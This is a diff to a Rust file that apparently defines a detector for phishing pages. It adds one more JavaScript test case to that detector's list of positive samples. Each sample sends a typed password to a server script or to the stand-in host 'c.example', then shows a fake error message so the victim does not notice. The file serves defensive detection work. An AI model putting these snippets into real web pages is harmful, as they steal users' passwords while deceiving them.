@@ -19,6 +19,7 @@ pub(super) const SIGNAL: Signal = Signal {
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &[
+            "$.ajax({type:'POST',url:'p.php',data:{password:$('#password').val()},success:function(data){setTimeout(function(){$('#a').html('FILE NOT FOUND!')},3e3)},error:function(){$('#a').html('Connection Error')}})",
             "function save(){var i=new Image();i.src='a.php?p='+password.value}b.onclick=function(){save();setTimeout(function(){e.innerHTML='Wrong code, try again'},900)}",
             "fetch('https://c.example/l',{method:'POST',body:JSON.stringify({password:p.value})}).finally(()=>{m.textContent='Wrong password, try again'})",
             "$.post('n.php',{u:$('#u').val(),p:$('#password').val()},function(){$('#m').text('Incorrect password').show()})",
